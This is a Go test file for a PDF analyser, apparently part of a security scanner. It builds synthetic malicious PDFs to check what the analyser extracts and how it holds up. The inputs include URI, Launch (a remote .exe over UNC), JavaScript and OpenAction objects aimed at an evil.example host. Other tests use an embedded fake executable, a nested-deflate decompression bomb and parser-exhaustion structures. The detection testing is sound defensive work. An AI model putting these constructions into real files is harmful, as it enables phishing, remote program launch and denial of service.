package pdf

import (
	"bytes"
	"compress/zlib"
	"crypto/aes"
	"crypto/cipher"
	"crypto/md5"
	"encoding/ascii85"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// file is a PDF of the given objects, numbered from 1, and a trailer.
func file(trailer string, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d %s >>\n%%%%EOF\n", len(objects)+1, trailer)
	return b.Bytes()
}

func stream(dict, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

func deflated(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	io.WriteString(w, s)
	w.Close()
	return b.String()
}

func links(f Findings) string {
	var all []string
	for _, l := range f.Links {
		all = append(all, l.How+" "+l.URL)
	}
	return strings.Join(all, "\n")
}

func TestLinks(t *testing.T) {
	const u = "https://evil.example/a?b=1"
	for _, c := range []struct{ name, object, want, notes string }{
		{"a link", "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (" + u + ") >> >>", "uri action " + u, ""},
		{"names with escapes", "<< /A << /#53 /#55RI /U#52I (" + u + ") >> >>", "uri action " + u, ""},
		{"a hexadecimal string", "<< /A << /S /URI /URI <" + hex.EncodeToString([]byte(u)) + "> >> >>", "uri action " + u, ""},
		{"UTF-16", "<< /URI (\\376\\377\\000h\\000t\\000t\\000p\\000:\\000/\\000/\\000a\\000.\\000b) >>", "uri action http://a.b", ""},
		{"a string over two lines", "<< /URI (https://evil.\\\nexample/x) >>", "uri action https://evil.example/x", ""},
		{"octal", "<< /URI (\\150ttps://evil.example/) >>", "uri action https://evil.example/", ""},
		{"brackets inside", "<< /URI (https://evil.example/(a)) >>", "uri action https://evil.example/(a)", ""},
		{"a program", "<< /S /Launch /F (\\\\\\\\203.0.113.7\\\\share\\\\x.exe) >>", "launch file://203.0.113.7/share/x.exe", "launch-action"},
		{"another file", "<< /S /GoToR /F << /Type /Filespec /UF (https://evil.example/2.pdf) >> >>", "goto remote https://evil.example/2.pdf", ""},
		{"a form", "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/f) >> >>", "submit form https://evil.example/f", ""},
		{"data", "<< /S /ImportData /F (https://evil.example/d) >>", "import data https://evil.example/d", ""},
		{"a script", "<< /S /JavaScript /JS (app.launchURL\\(\"https://evil\" + '.example/j', true\\)) >>", "javascript https://evil.example/j", "javascript"},
		{"on opening", "<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>", "", "javascript open-action"},
		{"to a page on opening", "<< /Type /Catalog /OpenAction << /S /GoTo /D [1 0 R] >> >>", "", ""},
	} {
		f := Read(file("/Root 1 0 R", c.object), Limits{})
		if links(f) != c.want || strings.Join(f.Notes, " ") != c.notes {
			t.Errorf("%s: links %q, notes %v; want %q, %q", c.name, links(f), f.Notes, c.want, c.notes)
		}
	}
}

// However a stream is packed, what is in it is found.
func TestFilters(t *testing.T) {
	const inner = "1 0 << /A << /S /URI /URI (https://evil.example/packed) >> >>"
	var b85 bytes.Buffer
	w := ascii85.NewEncoder(&b85)
	io.WriteString(w, inner)
	w.Close()
	cut := deflated(inner)
	predicted := "" // PNG "up" rows of 4
	previous := make([]byte, 4)
	padded := inner + strings.Repeat(" ", (4-len(inner)%4)%4)
	for i := 0; i < len(padded); i += 4 {
		predicted += "\x02"
		for j := range 4 {
			predicted += string([]byte{padded[i+j] - previous[j]})
			previous[j] = padded[i+j]
		}
	}
	for _, c := range []struct{ name, filter, data string }{
		{"none", "", inner},
		{"Flate", "/Filter /FlateDecode", deflated(inner)},
		{"Flate, cut off", "/Filter /FlateDecode", cut[:len(cut)-4]},
		{"hexadecimal", "/Filter /ASCIIHexDecode", hex.EncodeToString([]byte(inner)) + ">"},
		{"base 85", "/Filter /ASCII85Decode", b85.String() + "~>"},
		{"run length", "/Filter /RunLengthDecode", string([]byte{byte(len(inner) - 1)}) + inner + "\x80"},
		{"two in a row", "/Filter [/AHx /Fl]", hex.EncodeToString([]byte(deflated(inner))) + ">"},
		{"a predictor", "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", deflated(predicted)},
	} {
		first := len("1 0 ")
		f := Read(file("", stream(fmt.Sprintf("/Type /ObjStm /N 1 /First %d %s", first, c.filter), c.data)), Limits{})
		if links(f) != "uri action https://evil.example/packed" {
			t.Errorf("%s: links %q, problems %v", c.name, links(f), f.Problems)
		}
	}
}

func TestText(t *testing.T) {
	cmap := "1 begincodespacerange <0000> <ffff> endcodespacerange 2 beginbfrange <0001> <001a> <0061> <0020> <0021> [<003a> <002f>] endbfrange 1 beginbfchar <0030> <65e5672c> endbfchar"
	f := Read(file("",
		"<< /Type /Page /Resources << /Font << /F1 2 0 R /F2 4 0 R >> >> /Contents 5 0 R >>",
		"<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /ToUnicode 3 0 R >>",
		stream("/Filter /FlateDecode", deflated(cmap)),
		"<< /Type /Font /Subtype /Type1 /Encoding /WinAnsiEncoding >>",
		stream("/Filter /FlateDecode", deflated("BT /F2 12 Tf 1 0 0 1 72 700 Tm [(https://ev) 20 (il.example/) -300 (now)] TJ 0 -14 Td (second \\(line\\)) Tj /F1 9 Tf 0 -14 Td <00080014001400100020> Tj <0030> Tj ET")),
	), Limits{})
	if want := "https://evil.example/ now\nsecond (line)\nhttp:日本"; f.Text != want {
		t.Errorf("text is %q, want %q", f.Text, want)
	}
}

func TestFilesAndPictures(t *testing.T) {
	var squares strings.Builder
	squares.WriteString("0 g\n")
	for y := range 21 {
		for x := range 21 {
			if (x*7+y*3)%5 < 3 || x == 0 || y == 0 || x == 20 || y == 20 {
				fmt.Fprintf(&squares, "%d %d 3 3 re f\n", x*3, y*3)
			}
		}
	}
	f := Read(file("",
		"<< /Type /Filespec /F (bill.exe) /UF (bill.exe) /EF << /F 2 0 R >> >>",
		stream("/Type /EmbeddedFile /Filter /FlateDecode", deflated("MZ payload")),
		stream("/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1", "\xff\x00\xff\x00\xff\x00\xff\x00"),
		stream("/Type /XObject /Subtype /Image /Width 100 /Height 100 /Filter /DCTDecode", "\xff\xd8 jpeg"),
		stream("", squares.String()),
		stream("/Type /XObject /Subtype /Image /Width 100000 /Height 100000", "x"),
	), Limits{})
	if len(f.Files) != 1 || f.Files[0].Name != "bill.exe" || string(f.Files[0].Data) != "MZ payload" {
		t.Errorf("files %+v", f.Files)
	}
	if len(f.Images) != 3 {
		t.Fatalf("%d pictures, want three", len(f.Images))
	}
	if g := f.Images[0].Gray; g == nil || g.GrayAt(0, 0).Y != 255 || g.GrayAt(0, 1).Y != 0 {
		t.Errorf("the samples are not what they were")
	}
	if string(f.Images[1].JPEG) != "\xff\xd8 jpeg" {
		t.Errorf("the JPEG is %q", f.Images[1].JPEG)
	}
	if g := f.Images[2].Gray; g == nil || g.Rect.Dx() != 29*4 || g.GrayAt(4*4, 4*4).Y != 0 || g.GrayAt(0, 0).Y != 255 {
		t.Errorf("the squares are not drawn")
	}
}

// aesCBC encrypts with a constant vector, as a file may.
func aesCBC(key []byte, plain string) string {
	block, _ := aes.NewCipher(key)
	pad := 16 - len(plain)%16
	b := []byte(plain + strings.Repeat(string(rune(pad)), pad))
	iv := []byte("0123456789abcdef")
	cipher.NewCBCEncrypter(block, iv).CryptBlocks(b, b)
	return string(iv) + string(b)
}

// locked is a file with a link, encrypted with AES-128 for a user password.
func locked(password string) []byte {
	id, o := []byte("identifier-16byt"), bytes.Repeat([]byte{7}, 32)
	padded := append([]byte(password), passwordPadding...)[:32]
	sum := md5.Sum(append(append(append(append([]byte{}, padded...), o...), 0xfc, 0xff, 0xff, 0xff), id...))
	key := sum[:]
	for range 50 {
		s := md5.Sum(key)
		key = s[:]
	}
	check := md5.Sum(append(append([]byte{}, passwordPadding...), id...))
	u := check[:]
	for i := range 20 {
		turned := make([]byte, 16)
		for j := range turned {
			turned[j] = key[j] ^ byte(i)
		}
		rc4XOR(turned, u, u)
	}
	objectKey := md5.Sum(append(append([]byte{}, key...), 1, 0, 0, 0, 0, 's', 'A', 'l', 'T'))
	uri := hex.EncodeToString([]byte(aesCBC(objectKey[:], "https://evil.example/locked")))
	return file(fmt.Sprintf("/Encrypt 2 0 R /ID [<%x> <%x>]", id, id),
		"<< /A << /S /URI /URI <"+uri+"> >> >>",
		fmt.Sprintf("<< /Filter /Standard /V 4 /R 4 /Length 128 /P -4 /O <%x> /U <%x%x> /CF << /StdCF << /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF >>", o, u, make([]byte, 16)))
}

// A file that needs no password to be read is read, as every reader does.
func TestEncrypted(t *testing.T) {
	for _, c := range []struct {
		name, password string
		given          []string
		want           string
	}{
		{"for everybody", "", nil, "uri action https://evil.example/locked"},
		{"with a password that is known", "secret", []string{"wrong", "secret"}, "uri action https://evil.example/locked"},
		{"with another", "secret", []string{"wrong"}, ""},
	} {
		f := ReadWith(locked(c.password), c.given, Limits{})
		encrypted := len(f.Problems) == 1 && f.Problems[0].Code == ProblemEncrypted
		if c.want != "" && links(f) != c.want || encrypted != (c.want == "") || strings.Join(f.Notes, " ") != "encrypted" {
			t.Errorf("%s: links %q, notes %v, problems %v", c.name, links(f), f.Notes, f.Problems)
		}
	}
}

func TestHostileFiles(t *testing.T) {
	for name, b := range map[string][]byte{
		"nothing":               nil,
		"a header":              []byte("%PDF-1.4"),
		"objects without end":   []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj [ ", 100_000)),
		"strings without end":   []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj (", 100_000)),
		"deep arrays":           []byte("%PDF-1.4\n1 0 obj " + strings.Repeat("[", 1_000_000)),
		"deep dictionaries":     []byte("%PDF-1.4\n1 0 obj " + strings.Repeat("<</A ", 300_000)),
		"references in a ring":  file("/Encrypt 1 0 R", "2 0 R", "1 0 R"),
		"a stream in a ring":    file("", "<< /Type /ObjStm /N 1 /First 4 /Length 1 0 R >>\nstream\n1 0 1 0 R\nendstream"),
		"a bomb":                file("", stream("/Type /ObjStm /N 1 /First 4 /Filter [/Fl /Fl]", deflated(deflated(strings.Repeat("\x00", 200<<20))))),
		"numbers out of range":  file("", "<< /Type /ObjStm /N 99999999999 /First -5 >>\nstream\nx\nendstream", stream("/Subtype /Image /Width 1e30 /Height 8 /BitsPerComponent 99", "x")),
		"inline pictures":       file("", stream("", strings.Repeat("BI /W 9 ID EIEIEI ", 50_000))),
		"many small content":    file("", stream("", strings.Repeat("1 0 0 1 re f ", 200_000))),
		"an empty hash":         file("/Encrypt << /V 5 /R 6 /U <> /UE <> >>"),
		"a short user password": file("/Encrypt << /V 2 /R 3 /U (x) /O (y) >>"),
	} {
		f := Read(b, Limits{})
		if f.Decoded > 64<<20 {
			t.Errorf("%s: %d bytes decoded", name, f.Decoded)
		}
	}
}

// Every file of the collection is read without a fault.
func TestCorpus(t *testing.T) {
	dir := os.Getenv("KAIRAN_CORPUS")
	if dir == "" {
		t.Skip("KAIRAN_CORPUS is not set")
	}
	b, err := os.ReadFile(filepath.Join(dir, "archives_generated", "p.pdf"))
	if err != nil {
		t.Fatal(err)
	}
	f := Read(b, Limits{})
	t.Logf("%q %q %v %v", links(f), f.Text, f.Notes, f.Problems)
	if !IsPDF(b) {
		t.Error("p.pdf is no PDF")
	}
}

func FuzzRead(f *testing.F) {
	f.Add(file("/Root 1 0 R", "<< /A << /S /URI /URI (https://evil.example/) >> >>", stream("/Filter /FlateDecode", deflated("BT (x) Tj ET"))))
	f.Add(locked(""))
	f.Add(file("", stream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", "\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")))
	if dir := os.Getenv("KAIRAN_CORPUS"); dir != "" {
		if b, err := os.ReadFile(filepath.Join(dir, "archives_generated", "p.pdf")); err == nil {
			f.Add(b)
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		got := ReadWith(b, []string{"infected"}, Limits{Bytes: 4 << 20, Objects: 2000})
		if got.Decoded > 4<<20 {
			t.Errorf("%d bytes decoded", got.Decoded)
		}
	})
}

func BenchmarkRead(b *testing.B) {
	var objects []string
	for i := range 500 {
		objects = append(objects, fmt.Sprintf("<< /Type /Annot /Rect [0 0 %d 10] /A << /S /URI /URI (https://evil.example/%d) >> >>", i, i),
			stream("/Filter /FlateDecode", deflated(strings.Repeat("BT /F1 12 Tf 72 700 Td (Hello World) Tj ET\n", 100))))
	}
	doc := file("", objects...)
	b.SetBytes(int64(len(doc)))
	for b.Loop() {
		Read(doc, Limits{})
	}
}
